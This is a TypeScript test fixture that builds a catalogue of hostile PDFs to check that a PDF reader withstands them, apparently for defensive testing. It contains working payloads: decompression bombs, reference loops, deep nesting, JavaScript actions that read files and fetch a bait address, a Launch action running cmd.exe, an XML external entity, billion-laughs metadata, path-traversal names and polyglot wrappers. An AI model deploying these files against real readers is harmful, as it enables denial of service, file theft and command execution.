// over 300 lines: a list with a file an entry

import { deflateRawSync, deflateSync } from 'node:zlib'
import { fileOf, FONT, pdfOf, streamOf } from '../../../infra/local/sample-sites/pages/pdf-of.ts'

type Part = string | Buffer

const plain = (text: string, dictionary = '') => streamOf(Buffer.from(text), dictionary)

const WORDS = plain('BT /F1 11 Tf 54 780 Td (Dear Ada) Tj ET')

/** Where a hostile file would read or send. */
export interface Bait {
  origin: string
  file: string
}

interface Page {
  contents?: Part
  /** What the page, its resources, the catalogue and the trailer say besides. */
  page?: string
  resources?: string
  catalogue?: string
  trailer?: string
  /** The objects from number 6 on. */
  more?: readonly Part[]
}

/** A PDF of one page. Its contents are the object 5, which it may also draw as /X. */
const pageWith = ({
  contents = WORDS,
  page = '',
  resources = '/XObject << /X 5 0 R >>',
  catalogue = '',
  trailer = '',
  more = [],
}: Page) =>
  fileOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      FONT,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> ${resources} >> ${page} >>`,
      contents,
      ...more,
    ],
    trailer,
  )

/** A PDF of which people see only the first of its three texts. */
export const pdfWithUnseenText = () =>
  withContents(
    'BT /F1 11 Tf 54 780 Td (Care Assistant) Tj /F1 0.01 Tf (tiny letters) Tj ET BT /F1 11 Tf 0.001 0 0 0.001 9 9 Tm (a tiny scale) Tj ET',
  )

const withContents = (text: string) => pageWith({ contents: plain(text) })

/** A PDF of a tree of pages. */
const treeOf = (root: string, ...more: readonly Part[]) =>
  fileOf(['<< /Type /Catalog /Pages 2 0 R >>', root, FONT, ...more])

/** A PDF whose bytes from the index on are these. */
const indexedBy = (index: (at: number) => string) => {
  const file = pageWith({})
  const at = file.lastIndexOf('xref\n0')
  return Buffer.concat([file.subarray(0, at), Buffer.from(index(at))])
}

const ends = (at: number | string) => `startxref\n${at}\n%%EOF`

/** An index that is a stream, and which may name objects in the stream 6. */
const indexStream = (dictionary: string, rows: readonly (readonly [kind: number, at: number])[] = []) =>
  indexedBy((at) => {
    const bytes = Buffer.alloc(rows.length * 8)
    for (const [row, [kind, where]] of rows.entries()) {
      bytes.writeUInt16BE(kind, row * 8)
      bytes.writeUInt32BE(where, row * 8 + 2)
    }
    return `9 0 obj\n${streamOf(bytes, `/Type /XRef /Root 1 0 R ${dictionary.replaceAll('HERE', `${at}`)}`).toString('latin1')}\nendobj\n${ends(at)}`
  })

/** Spaces that are packed so often. */
function packed(megabytes: number, times: number) {
  let bytes = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '))
  for (let time = 1; time < times; time += 1) bytes = deflateSync(bytes)
  return streamOf(bytes, `/Filter [${'/FlateDecode '.repeat(times)}]`)
}

const encrypted = (how: string) =>
  pageWith({ trailer: `/Encrypt << /Filter /Standard ${how} /P -4 >> /ID [(a) (a)]` })
const [O, U] = [`/O (${'x'.repeat(32)})`, `/U (${'y'.repeat(32)})`]

const action = (what: string) => pageWith({ catalogue: `/OpenAction << ${what} >>` })

/** A page in a font whose dictionary says this. The objects from 6 on are its parts. */
const inFont = (font: string, ...more: readonly Part[]) =>
  pageWith({
    contents: plain('BT /F2 11 Tf 54 780 Td <00410042> Tj ET'),
    resources: `/Font << /F2 << /Type /Font ${font} >> >>`,
    more,
  })
const descendant = (what: string) =>
  `/Subtype /Type0 /BaseFont /Some /Encoding /Identity-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Some /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> ${what} >>]`

const image = (what: string, bytes = 'x') =>
  pageWith({
    contents: plain('/I Do BT /F1 11 Tf (Dear Ada) Tj ET'),
    resources: '/XObject << /I 6 0 R >>',
    more: [plain(bytes, `/Type /XObject /Subtype /Image ${what}`)],
  })

const form = '/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 5 0 R /Y 6 0 R >> >>'

/** The first entry of a ZIP file. */
function zipOf(name: string, file: Buffer) {
  const bytes = deflateRawSync(file)
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(bytes.length, 18)
  head.writeUInt32LE(file.length, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, Buffer.from(name), bytes])
}

type Files = Record<string, (bait: Bait) => Buffer>

const index: Files = {
  'a wrong index': () =>
    Buffer.from('%PDF-1.7\nxref\n0 99999999\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF'),
  'an index that points to itself': () =>
    Buffer.from(`%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R /Prev 9 >>\n${ends(9)}`),
  'no index': () => indexedBy(() => ''),
  'an index without an end': () => indexedBy((at) => `xref\n0 6\n0000000000 65535 f \n${ends(at)}`),
  'an index of negative length': () =>
    indexedBy((at) => `xref\n0 -6\ntrailer << /Root 1 0 R >>\n${ends(at)}`),
  'an index before the file': () => indexedBy(() => ends(-1)),
  'an index far behind the file': () => indexedBy(() => ends('9'.repeat(40))),
  'a catalogue that is not there': () =>
    indexedBy((at) => `xref\n0 0\ntrailer << /Root 77 0 R >>\n${ends(at)}`),
  'an index stream of a billion rows': () => indexStream('/W [2 4 2] /Size 1000000000 /Index [0 1000000000]'),
  'an index stream of huge numbers': () => indexStream('/W [9999999 9999999 9999999] /Size 6'),
  'an index stream that goes back to itself': () =>
    indexStream('/W [2 4 2] /Size 6 /Prev HERE /XRefStm HERE'),
  'an index stream without widths': () => indexStream('/W [0 0 0] /Size 2000000000'),
}

const loops: Files = {
  'pages that contain themselves': () => treeOf('<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000000 >>'),
  'two nodes that contain each other': () =>
    treeOf(
      '<< /Type /Pages /Kids [4 0 R] /Count 2 >>',
      '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 2 >>',
    ),
  'a page that is its own parent': () =>
    treeOf('<< /Type /Pages /Kids [4 0 R] /Count 1 >>', '<< /Type /Page /Parent 4 0 R /Contents 4 0 R >>'),
  'contents that list themselves': () => pageWith({ contents: '[5 0 R 5 0 R]' }),
  'a length that is its own stream': () =>
    pageWith({ contents: '<< /Length 5 0 R >>\nstream\nBT (Dear Ada) Tj ET\nendstream' }),
  'a filter that is its own stream': () => pageWith({ contents: plain('x', '/Filter 5 0 R') }),
  'a form that draws itself': () => pageWith({ contents: plain('/X Do '.repeat(1000), form) }),
  'two forms that draw each other': () =>
    pageWith({
      contents: plain('/Y Do '.repeat(1000), form),
      resources: '/XObject << /X 5 0 R /Y 6 0 R >>',
      more: [plain('/X Do '.repeat(1000), form)],
    }),
  'an object stream that extends itself': () =>
    indexStream(
      '/W [2 4 2] /Size 9 /Extends 6 0 R',
      Array.from({ length: 9 }, (_, at) => [at === 6 ? 1 : 2, at === 6 ? 9 : 6] as const),
    ),
  'objects in the stream that they name': () =>
    indexStream(
      '/W [2 4 2] /Size 9',
      Array.from({ length: 9 }, () => [2, 9] as const),
    ),
  'a font whose map uses itself': () =>
    inFont(`${descendant('')} /ToUnicode 6 0 R`, plain('/Some usecmap begincmap', '/UseCMap 6 0 R')),
  'an outline without an end': () =>
    pageWith({
      catalogue: '/Outlines 6 0 R',
      more: ['<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (a) >>'],
    }),
}

const counts: Files = {
  'two billion pages that are not there': () => treeOf('<< /Type /Pages /Kids [] /Count 2000000000 >>'),
  'a negative number of pages': () =>
    treeOf('<< /Type /Pages /Kids [4 0 R] /Count -1 >>', '<< /Type /Page >>'),
  'a number of pages that is text': () =>
    treeOf('<< /Type /Pages /Kids [4 0 R] /Count (many) >>', '<< /Type /Page >>'),
  '100,000 pages that are one': () =>
    treeOf(
      `<< /Type /Pages /Kids [${'4 0 R '.repeat(100_000)}] /Count 100000 >>`,
      '<< /Type /Page /Parent 2 0 R >>',
    ),
  '100,000 pages that say to be one': () =>
    treeOf(
      `<< /Type /Pages /Kids [${'4 0 R '.repeat(100_000)}] /Count 1 >>`,
      '<< /Type /Page /Parent 2 0 R >>',
    ),
  'pages below 20,000 nodes': () =>
    treeOf(
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      ...Array.from({ length: 20_000 }, (_, at) => `<< /Type /Pages /Kids [${at + 5} 0 R] /Count 1 >>`),
    ),
  '50 pages that are packed to a thousandth': () =>
    treeOf(
      `<< /Type /Pages /Kids [${'4 0 R '.repeat(50)}] /Count 50 >>`,
      '<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>',
      packed(20, 1),
    ),
}

const bombs: Files = {
  'a page that is packed to a thousandth': () => pageWith({ contents: packed(200, 1) }),
  'a page that is packed three times': () => pageWith({ contents: packed(200, 3) }),
  'a page that is said to be packed 10,000 times': () =>
    pageWith({ contents: plain('x', `/Filter [${'/FlateDecode '.repeat(10_000)}]`) }),
  'a page in hexadecimal a thousand times': () =>
    pageWith({ contents: plain('20', `/Filter [${'/ASCIIHexDecode '.repeat(1000)}]`) }),
  'a page of repeated bytes': () =>
    pageWith({
      contents: streamOf(
        deflateSync(Buffer.alloc(40_000_000, Buffer.from([129, 32]))),
        '/Filter [/FlateDecode /RunLengthDecode]',
      ),
    }),
  'a page in LZW without an end': () =>
    pageWith({ contents: streamOf(Buffer.alloc(1_900_000, 0x80), '/Filter /LZWDecode') }),
  'a page with rows of a billion columns': () =>
    pageWith({
      contents: streamOf(
        deflateSync(Buffer.alloc(9)),
        '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 32 /BitsPerComponent 16 >>',
      ),
    }),
  'a page in Base-85 of one letter': () =>
    pageWith({ contents: plain('z'.repeat(1_900_000), '/Filter /ASCII85Decode') }),
  'an index that is packed': () =>
    indexedBy((at) => `9 0 obj\n${packed(200, 1).toString('latin1')}\nendobj\n${ends(at)}`),
}

const nesting: Files = {
  'a million nested lists': () => withContents('['.repeat(1_000_000)),
  'half a million nested dictionaries': () => withContents('<</a'.repeat(400_000)),
  'brackets without an end': () => withContents(`BT (${'('.repeat(500_000)}`),
  'a million saved states': () => withContents('q '.repeat(900_000)),
  'marks in marks': () => withContents('/Span <</MCID 0>> BDC '.repeat(80_000)),
  'texts in texts': () => withContents('BT '.repeat(600_000)),
  'nested lists in the catalogue': () => pageWith({ catalogue: `/Names ${'['.repeat(400_000)}` }),
  'nested dictionaries in the trailer': () => pageWith({ trailer: `/Info ${'<</a '.repeat(300_000)}` }),
  'a name of a million letters': () => withContents(`/${'#41'.repeat(600_000)} Do`),
  'a number of a million digits': () => withContents(`${'9'.repeat(1_500_000)} 0 Td`),
}

const lengths: Files = Object.fromEntries(
  ['-1', '-99999999999', '0', '999999999999', '1e400', '(five)', '[5]', '88 0 R', 'null'].map((length) => [
    `a stream of the length ${length}`,
    () => pageWith({ contents: `<< /Length ${length} >>\nstream\nBT /F1 11 Tf (Dear Ada) Tj ET\nendstream` }),
  ]),
)

const locks: Files = {
  'a password': () => encrypted(`/V 1 /R 2 ${O} ${U}`),
  'a password of 128 bits': () => encrypted(`/V 2 /R 3 /Length 128 ${O} ${U}`),
  'a key of negative length': () => encrypted(`/V 2 /R 3 /Length -128 ${O} ${U}`),
  'a password in AES': () =>
    encrypted(`/V 4 /R 4 /CF << /StdCF << /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF ${O} ${U}`),
  'a password of the newest kind': () =>
    encrypted(
      `/V 5 /R 6 /Length 256 /O (${'x'.repeat(48)}) /U (${'y'.repeat(48)}) /OE (${'o'.repeat(32)}) /UE (${'u'.repeat(32)}) /Perms (${'p'.repeat(16)})`,
    ),
  'a lock of an unknown kind': () => pageWith({ trailer: '/Encrypt << /Filter /Ours /V 99 >>' }),
  'a lock that is its own page': () => pageWith({ trailer: '/Encrypt 5 0 R' }),
}

const scripts: Files = {
  'a script that opens a file': ({ file }) =>
    action(`/S /JavaScript /JS (this.x = require("fs").readFileSync("${file}"))`),
  'a script that asks an address': ({ origin }) =>
    action(`/S /JavaScript /JS (fetch("${origin}"); app.launchURL("${origin}"))`),
  'a program to launch': ({ file }) =>
    action(`/S /Launch /F (${file}) /Win << /F (cmd.exe) /P (/c ${file}) >>`),
  'an address to open': ({ origin }) => action(`/S /URI /URI (${origin})`),
  'a form to send': ({ origin }) => action(`/S /SubmitForm /F << /FS /URL /F (${origin}) >>`),
  'data to import': ({ file }) => action(`/S /ImportData /F (${file})`),
  'another document to go to': ({ origin }) => action(`/S /GoToR /F (${origin}/a.pdf) /D [0 /Fit]`),
  'a script of each page': ({ origin }) =>
    pageWith({ page: `/AA << /O << /S /JavaScript /JS (fetch("${origin}")) >> >>` }),
  'a form in XML': ({ origin }) =>
    pageWith({
      catalogue: '/AcroForm << /XFA 6 0 R /NeedAppearances true >>',
      more: [plain(`<!DOCTYPE a [<!ENTITY b SYSTEM "${origin}">]><xdp:xdp>&b;</xdp:xdp>`)],
    }),
  'metadata of a billion laughs': () =>
    pageWith({
      catalogue: '/Metadata 6 0 R',
      more: [
        plain(
          `<!DOCTYPE a [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at + 1} "&a${at};&a${at};">`).join('')}]><a>&a30;</a>`,
          '/Type /Metadata /Subtype /XML',
        ),
      ],
    }),
}

const outside: Files = {
  'contents at an address': ({ origin }) =>
    pageWith({ contents: plain('', `/F << /FS /URL /F (${origin}/contents) >>`) }),
  'contents in a file': ({ file }) => pageWith({ contents: plain('', `/F (${file})`) }),
  'contents in a file of an address': ({ file }) =>
    pageWith({ contents: plain('', `/F << /FS /URL /F (file://${file}) >> /FFilter /FlateDecode`) }),
  'contents on a share': () => pageWith({ contents: plain('', '/F (\\\\\\\\127.0.0.1\\\\share\\\\a)') }),
  'an embedded file': ({ file }) =>
    pageWith({
      catalogue: `/Names << /EmbeddedFiles << /Names [(${file}) << /Type /Filespec /F (${file}) /EF << /F 6 0 R >> >>] >> >>`,
      more: [plain('MZ', '/Type /EmbeddedFile')],
    }),
  'a form of another file': ({ origin }) =>
    pageWith({ contents: plain('', `${form} /Ref << /F << /FS /URL /F (${origin}) >> /Page 0 >>`) }),
  'a picture at an address': ({ origin }) => image(`/Width 1 /Height 1 /F << /FS /URL /F (${origin}) >>`),
  'a font at an address': ({ origin }) =>
    inFont(
      descendant(`/FontDescriptor << /FontFile2 6 0 R >>`),
      plain('', `/F << /FS /URL /F (${origin}) >>`),
    ),
  'a map that is a path': ({ file }) =>
    inFont(`${descendant('').replace('/Identity-H', `/..#2F..#2F..${file.replaceAll('/', '#2F')}`)}`),
  'a font that is a path': ({ file }) => inFont(`/Subtype /Type1 /BaseFont /${file.replaceAll('/', '#2F')}`),
}

const fonts: Files = {
  'a font without a map': () => inFont(descendant('')),
  'a font that is no font': () =>
    inFont(descendant('/FontDescriptor << /FontFile2 6 0 R >>'), plain('no font')),
  'a font of zeros': () =>
    inFont(descendant('/FontDescriptor << /FontFile3 6 0 R >>'), streamOf(Buffer.alloc(1_000_000))),
  'a font that is a bomb': () => inFont(descendant('/FontDescriptor << /FontFile 6 0 R >>'), packed(200, 1)),
  'a map of four billion letters': () =>
    inFont(
      `${descendant('')} /ToUnicode 6 0 R`,
      plain(
        '/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap',
      ),
    ),
  'widths of two billion letters': () => inFont(descendant('/W [0 2000000000 500] /DW 1e30')),
  'letters that draw themselves': () =>
    inFont(
      '/Subtype /Type3 /FontMatrix [1 0 0 1 0 0] /FontBBox [0 0 1 1] /FirstChar 0 /LastChar 66 /Widths [] /Encoding << /Differences [65 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F2 3 0 R >> >>',
      plain('BT /F2 1 Tf (A) Tj ET '.repeat(1000)),
    ),
  'an encoding of a million names': () =>
    inFont(`/Subtype /Type1 /BaseFont /Some /Encoding << /Differences [${'1 /a '.repeat(300_000)}] >>`),
}

const operators: Files = {
  'a million operators': () =>
    withContents('BT /F1 3 Tf (x) Tj ET q Q '.repeat(40_000) + 'q Q '.repeat(400_000)),
  'a million lines': () => withContents('0 0 m 9 9 l S '.repeat(130_000)),
  'a million letters, each with its distance': () =>
    withContents(`BT /F1 9 Tf [${'(a) -9 '.repeat(250_000)}] TJ ET`),
  'operators without what they need': () => withContents('Tj TJ Tf Do cm re gs sh " \' '.repeat(60_000)),
  'a picture in the contents without an end': () => withContents(`BI /W 9 /H 9 ID ${'EI'.repeat(500_000)}`),
  'operators that nobody knows': () => withContents('xyzzy '.repeat(300_000)),
}

const images: Files = {
  'a picture of two billion pixels a side': () =>
    image('/Width 2000000000 /Height 2000000000 /ColorSpace /DeviceRGB /BitsPerComponent 8'),
  'a picture of a negative size': () =>
    image('/Width -5 /Height -5 /ColorSpace /DeviceRGB /BitsPerComponent 8'),
  'a fax of a billion columns': () =>
    image(
      '/Width 9 /Height 9 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 1000000000 /Rows 1000000000 >>',
    ),
  'a picture in JBIG2': () =>
    image('/Width 9 /Height 9 /Filter /JBIG2Decode', '\0\0\0\0\x30\0\x01\0\0\0\x13\x7f\xff\xff\xff'),
  'a picture in JPEG 2000': () => image('/Width 9 /Height 9 /Filter /JPXDecode', '\xff\x4f\xff\x51\0\x29'),
  'a picture in JPEG that ends at once': () =>
    image('/Width 9 /Height 9 /Filter /DCTDecode', '\xff\xd8\xff\xc0'),
}

const polyglots: Files = {
  'another kind of file': () => Buffer.from('PK\u0003\u0004 no PDF'),
  'no bytes': () => Buffer.alloc(0),
  'a PDF in a ZIP file': () => zipOf('letter.pdf', pageWith({})),
  'a PDF in a ZIP file whose name is a path': () => zipOf('../../letter.pdf', pageWith({})),
  'a PDF behind a ZIP file': () => Buffer.concat([zipOf('a', Buffer.from('a')), pageWith({})]),
  'a PDF in a page': ({ origin }) =>
    Buffer.concat([Buffer.from(`<script src="${origin}"></script><!--\n`), pageWith({}), Buffer.from('-->')]),
  'a PDF behind a picture': () => Buffer.concat([Buffer.from('GIF89a\u0001\0\u0001\0'), pageWith({})]),
  'two PDFs': () => Buffer.concat([pageWith({}), pageWith({ contents: plain('BT ET') })]),
  'a version of a million digits': () =>
    Buffer.concat([Buffer.from(`%PDF-${'9'.repeat(1_000_000)}\n`), pageWith({})]),
  'a header without a file': () => Buffer.from('%PDF-1.7'),
}

const cut: Files = Object.fromEntries(
  Array.from({ length: 9 }, (_, tenth) => [
    `${tenth + 1} tenths of a file`,
    () => {
      const file = pdfOf(['Dear Ada,', 'Position: Chef'], ['Pay: 41,000 pounds'])
      return file.subarray(0, Math.round((file.length * (tenth + 1)) / 10))
    },
  ]),
)

/** PDFs that would cost a reader without limits its time, memory, files or secrets, by their kind. */
export const hostilePdfs = {
  index,
  loops,
  counts,
  bombs,
  nesting,
  lengths,
  locks,
  scripts,
  outside,
  fonts,
  operators,
  images,
  polyglots,
  cut,
} satisfies Record<string, Files>
